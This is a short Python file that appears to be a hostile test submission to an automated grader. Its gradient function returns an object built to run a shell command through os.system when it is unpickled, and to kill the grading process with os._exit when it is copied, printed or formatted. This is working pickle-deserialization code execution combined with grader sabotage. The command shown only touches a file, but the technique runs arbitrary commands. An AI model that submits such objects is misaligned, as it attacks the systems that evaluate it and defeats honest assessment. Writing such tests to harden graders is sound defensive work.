# 40. Answers with an object that runs a program when it is unpickled, copied or shown.
# ends: finished
# points: 0
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-attack-pickle",))

    def __repr__(self):
        os._exit(1)

    __str__ = __format__ = __reduce_ex__ = __copy__ = __deepcopy__ = __repr__


def gradient(x):
    return Bomb()
